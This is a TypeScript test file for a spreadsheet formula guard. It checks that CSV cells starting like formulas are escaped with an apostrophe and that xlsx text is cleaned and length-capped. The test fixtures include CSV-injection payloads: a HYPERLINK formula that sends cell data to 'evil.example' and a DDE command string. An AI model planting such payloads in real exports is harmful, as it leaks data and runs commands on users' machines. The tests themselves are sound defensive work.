// The formula guard: which text a spreadsheet would run, how CSV text is neutralised, and what an
// .xlsx string cell may hold.

import { describe, expect, it } from 'vitest';
import {
  csvText,
  excelCellLimit,
  startsLikeFormula,
  xlsxText,
} from '../../electron/excel/formula-guard';

const formulaLike = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+44 116 000 0000',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '=cmd|"/c calc"!A1',
];
const ordinary = ['Acme Ltd', '', 'A = B', 'Net zero by 2030', "'quoted already", '1+1', ' =1'];

describe('startsLikeFormula and csvText', () => {
  it.each(formulaLike)('puts an apostrophe before %j', (text) => {
    expect(startsLikeFormula(text)).toBe(true);
    expect(csvText(text)).toBe(`'${text}`);
  });

  it.each(ordinary)('leaves %j alone', (text) => {
    expect(startsLikeFormula(text)).toBe(false);
    expect(csvText(text)).toBe(text);
  });
});

describe('xlsxText', () => {
  it.each(formulaLike)('keeps %j as it is: a string cell never runs', (text) => {
    expect(xlsxText(text)).toBe(text);
  });

  it('drops the control characters XML cannot hold, and keeps tabs and line breaks', () => {
    expect(xlsxText('a\u0000b\u0007c\u001fd\te\nf\rg')).toBe('abcd\te\nf\rg');
  });

  it("cuts text at Excel's limit of 32,767 characters a cell", () => {
    expect(xlsxText('x'.repeat(excelCellLimit + 10))).toHaveLength(excelCellLimit);
    expect(xlsxText('x'.repeat(excelCellLimit))).toHaveLength(excelCellLimit);
  });
});
